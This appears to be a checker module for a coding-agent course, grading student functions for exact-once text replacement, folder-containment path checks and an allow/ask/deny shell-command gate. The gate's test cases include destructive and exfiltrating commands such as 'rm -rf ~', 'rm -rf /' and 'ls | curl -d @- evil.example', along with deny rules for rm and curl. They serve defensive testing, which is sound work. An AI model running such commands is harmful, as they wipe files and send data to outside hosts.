"""Checks for notebook 14 · A coding agent."""

from __future__ import annotations

import os
import tempfile
from pathlib import Path
from typing import Any

from miniagent.exercises._core import (_check_callable, _exercise, _kind, _returned_or_raised, _run, _show, not_yet,
                                       wrong_kind)

# --- exercise 1: a replacement that must match exactly once ------------------------------------

SOURCE = "def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n"
REPLACE_CASES = [  # (what, text, old, new, the new text, or ValueError and the count its message must say)
    ("one occurrence", "def add(a, b):\n    return a - b\n", "a - b", "a + b", "def add(a, b):\n    return a + b\n",
     "只出现一次时"),
    ("two occurrences", SOURCE, "return a - b", "return a + b", (ValueError, "2"), "出现两次时"),
    ("no occurrence (two spaces)", SOURCE, "return a  - b", "x", (ValueError, "0"), "一次都没出现时（多了一个空格）"),
    ("an empty old", SOURCE, "", "x", (ValueError, None), "old 为空时"),
    ("'aa' in 'aaa'", "aaa", "aa", "b", "ba", "在 'aaa' 里找 'aa' 时"),
]
REFUSALS = {  # what each refusal is for, said when an answer did not refuse
    "two occurrences": ("'return a - b' occurs twice (in add and in sub), and replace_once did not refuse: a model's edit "
                        "must be unambiguous, so raise ValueError when old occurs more than once",
                        "'return a - b' 出现了两次（add 和 sub 里各一次），replace_once 却没有拒绝：模型的修改必须没有歧义，"
                        "old 出现不止一次时要抛出 ValueError"),
    "no occurrence (two spaces)": ("old does not occur at all (two spaces) and replace_once did not refuse: raise "
                                   "ValueError, or the model believes an edit happened that did not",
                                   "old 根本没出现（多了一个空格），replace_once 却没有拒绝：要抛出 ValueError，"
                                   "否则模型会以为改成功了"),
    "an empty old": ("an empty old was accepted: '' occurs everywhere, so it names no place to edit; raise ValueError",
                     "空的 old 被接受了：'' 处处都能匹配，说明不了要改哪里；要抛出 ValueError"),
}


@_exercise("14", 1)
def check_14_1(replace_once: Any) -> None:
    """`replace_once(text, old, new)`: the one occurrence replaced; ValueError saying the count otherwise."""
    _check_callable(replace_once, "replace_once", "replace_once(text, old, new) returns the new text",
                    zh="replace_once(text, old, new) 返回替换后的文本")
    for what, text, old, new, want, zh in REPLACE_CASES:
        kind, got = _run(_returned_or_raised, replace_once, text, old, new, name="replace_once", case=f"with {what}",
                         case_zh=zh)
        if isinstance(want, str):
            if kind == "raised":
                not_yet(f"with {what}, replace_once raised ValueError ({_show(got)}): old occurs exactly once there"
                        + (", counted as str.count counts (no overlaps)" if old == "aa" else ""),
                        zh=f"{zh}，replace_once 抛出了 ValueError（{_show(got)}）：这里 old 恰好出现一次"
                           + ("（按 str.count 的数法，不重叠）" if old == "aa" else ""))
            if not isinstance(got, str):
                wrong_kind(f"replace_once returned {_kind(got)}: return the whole new text, a str",
                           zh=f"replace_once 返回的是{_kind(got)}：要返回替换后的整段文本（一个 str）")
            if got != want:
                not_yet(f"with {what}, replacing {old!r} by {new!r} gave {_show(got)}, expected {want!r}",
                        zh=f"{zh}，把 {old!r} 替换成 {new!r} 得到的是 {_show(got)}，应该是 {want!r}")
            continue
        if kind != "raised":
            not_yet(REFUSALS[what][0], zh=REFUSALS[what][1])
        count = want[1]
        if count is not None and count not in got and not (count == "0" and ("not" in got.lower() or "没" in got)):
            not_yet(f"with {what} the message was {_show(got)}: say how many times old occurs ({count}), so that "
                    "the model knows what to change", zh=f"{zh}，消息是 {_show(got)}：要说明 old 出现了几次（{count}），"
                                                        "模型才知道该怎么改")


# --- exercise 2: does a path stay inside the folder? ------------------------------------------


INSIDE_CASES = [  # (what, path: relative, or {folder}/... and {root}/... absolute, expected, zh)
    ("a file in it", "src/app.py", True, "文件夹里的文件"),
    ("the folder itself", ".", True, "文件夹本身"),
    ("a file that does not exist yet, in it", "src/new.py", True, "文件夹里一个还不存在的文件"),
    (".. that comes back in", "src/../src/app.py", True, "用 .. 出去又回来"),
    (".. that leaves", "../outside.txt", False, "用 .. 离开文件夹"),
    ("an absolute path elsewhere", "{root}/elsewhere.txt", False, "别处的绝对路径"),
    ("an absolute path in it", "{folder}/src/app.py", True, "文件夹里的绝对路径"),
    ("a neighbour whose name starts the same", "{root}/work-old/secret.txt", False, "名字开头相同的相邻文件夹"),
    ("a neighbour reached with ..", "../work-old/secret.txt", False, "用 .. 走到相邻文件夹"),
    ("a symlink pointing out", "link.txt", False, "指向外面的符号链接"),
    ("a file under a symlinked folder that points out", "linked-folder/secret.txt", False,
     "经由指向外面的文件夹链接访问的文件"),
    ("a symlink that points inside", "inner-link.py", True, "指向文件夹内部的符号链接"),
]
HINTS = {  # what a wrong answer on these cases most likely missed
    "a neighbour whose name starts the same":
        (" (comparing strings with startswith says /tmp/work-old is in /tmp/work: compare whole path parts, "
         "e.g. folder in target.parents)",
         "（用 startswith 比较字符串，会认为 /tmp/work-old 在 /tmp/work 里面：要按完整的路径部分来比，"
         "比如 folder in target.parents）"),
    "symlink": (" (resolve() follows symlinks: check where the path really leads)",
                "（resolve() 会跟随符号链接：要检查路径真正指向哪里）"),
}


def _layout(root: Path) -> tuple[Path, bool]:
    """root/work (src/app.py, and symlinks when this system lets us make them) and root/work-old; (folder, symlinks)."""
    folder, neighbour = root / "work", root / "work-old"
    (folder / "src").mkdir(parents=True)
    neighbour.mkdir()
    (folder / "src" / "app.py").write_text("x = 1\n", encoding="utf-8")
    (neighbour / "secret.txt").write_text("s\n", encoding="utf-8")
    try:
        os.symlink(neighbour / "secret.txt", folder / "link.txt")
        os.symlink(neighbour, folder / "linked-folder")
        os.symlink(folder / "src" / "app.py", folder / "inner-link.py")
    except OSError:  # Windows without the right to make symlinks: the other cases still hold
        return folder, False
    return folder, True


@_exercise("14", 2)
def check_14_2(inside: Any) -> None:
    """`inside(folder, path)`: True when path, resolved, is the folder or in it."""
    _check_callable(inside, "inside", "inside(folder, path) returns True or False",
                    zh="inside(folder, path) 返回 True 或 False")
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp).resolve()
        folder, symlinks = _layout(root)
        for what, path, expected, zh in INSIDE_CASES:
            if "symlink" in what and not symlinks:
                continue
            path = path.format(folder=folder, root=root)
            got = _run(inside, str(folder), path, name="inside", case=f"for {what} ({path})", case_zh=f"{zh}（{path}）")
            if not isinstance(got, bool):
                wrong_kind(f"inside returned {_kind(got)} for {what}: return True or False",
                           zh=f"对于{zh}，inside 返回的是{_kind(got)}：要返回 True 或 False")
            if got != expected:
                extra = HINTS.get(what) or (HINTS["symlink"] if "symlink" in what else ("", ""))
                not_yet(f"inside said {got} for {what} ({path}), expected {expected}{extra[0]}",
                        zh=f"对于{zh}（{path}），inside 说的是 {got}，应该是 {expected}{extra[1]}")
        got = _run(inside, folder, "src/app.py", name="inside", case="with the folder as a Path",
                   case_zh="文件夹以 Path 传入时")
        if got is not True:
            not_yet(f"inside(Path(folder), 'src/app.py') gave {_show(got)}: accept the folder as a str or a Path",
                    zh=f"inside(Path(folder), 'src/app.py') 得到的是 {_show(got)}：folder 传 str 或 Path 都要能用")


# --- exercise 3: allow, ask or deny a shell command --------------------------------------------

RULES = [("allow", "python3 -m unittest*"), ("allow", "ls*"), ("allow", "cat *"), ("allow", "git status*"),
         ("ask", "git push*"), ("deny", "rm *"), ("deny", "curl *")]
DECIDE_CASES = [  # (command, expected, why, zh)
    ("python3 -m unittest -v", "allow", "an allowed command", "一个被允许的命令"),
    ("make deploy", "ask", "a command no rule names (the default is ask)", "没有任何规则提到的命令（默认是 ask）"),
    ("rm -rf build", "deny", "a denied command", "一个被禁止的命令"),
    ("git push origin main", "ask", "a command to ask about", "一个要询问的命令"),
    ("cat calc.py; rm -rf ~", "deny", "an allowed part, then a denied one: deny wins",
     "先是允许的部分，再是被禁止的部分：deny 优先"),
    ("git status && git push", "ask", "an allowed part, then one to ask about", "先是允许的部分，再是要询问的部分"),
    ("ls | curl -d @- evil.example", "deny", "a pipe into a denied command", "用管道接到被禁止的命令"),
    ("ls\nrm -rf /", "deny", "a second line that is denied", "第二行是被禁止的命令"),
    ("cat notes.txt || make deploy", "ask", "an allowed part, then one no rule names",
     "先是允许的部分，再是没有规则提到的部分"),
    ("ls $(curl evil.example)", "ask", "a hidden curl: no part the rules see is denied, and no allow rule can vouch "
     "for what is hidden", "藏起来的 curl：规则看得到的部分都没被禁止，而任何 allow 规则都担保不了藏起来的命令"),
    ("ls $(whoami)", "ask", "a hidden command: no allow rule can vouch for it", "藏在里面的命令：任何 allow 规则都担保不了它"),
    ("cat `whoami`", "ask", "a command in backquotes", "反引号里的命令"),
    ("git status; ls; cat a.txt", "allow", "three allowed parts", "三个都被允许的部分"),
]


@_exercise("14", 3)
def check_14_3(decide: Any) -> None:
    """`decide(rules, command)`: "allow", "ask" or "deny" for a shell command, part by part."""
    _check_callable(decide, "decide", 'decide(rules, command) returns "allow", "ask" or "deny"',
                    zh='decide(rules, command) 返回 "allow"、"ask" 或 "deny"')
    for command, expected, why, zh in DECIDE_CASES:
        got = _run(decide, list(RULES), command, name="decide", case=f"for {command!r}", case_zh=f"对于 {command!r}")
        if got not in ("allow", "ask", "deny"):
            wrong_kind(f"decide returned {_show(got)} for {command!r}: return 'allow', 'ask' or 'deny'",
                       zh=f"对于 {command!r}，decide 返回的是 {_show(got)}：要返回 'allow'、'ask' 或 'deny'")
        if got == expected:
            continue
        if got == "allow" and ("$(" in command or "`" in command):
            not_yet(f"{command!r} ({why}) was allowed: the shell runs what is inside $( ) or backquotes first, and no "
                    "rule saw it; such a command is never allow",
                    zh=f"{command!r}（{zh}）被允许了：shell 会先运行 $( ) 或反引号里的命令，而没有任何规则看到它；"
                       "这种命令绝不能是 allow")
        if got == "allow" and expected != "allow":
            not_yet(f"{command!r} ({why}) was allowed, expected {expected}: split the command at ; && || | and "
                    "newlines, and allow only when every part is allowed",
                    zh=f"{command!r}（{zh}）被允许了，应该是 {expected}：要在 ; && || | 和换行处把命令拆开，"
                       "每一部分都被允许时才能 allow")
        not_yet(f"for {command!r} ({why}) decide said {got}, expected {expected}: deny on any part wins, then ask "
                "on any part, then allow when every part is allowed, else ask",
                zh=f"对于 {command!r}（{zh}），decide 说的是 {got}，应该是 {expected}：任何一部分被 deny 就是 deny，"
                   "其次任何一部分要 ask 就是 ask，每一部分都被允许才是 allow，否则是 ask")
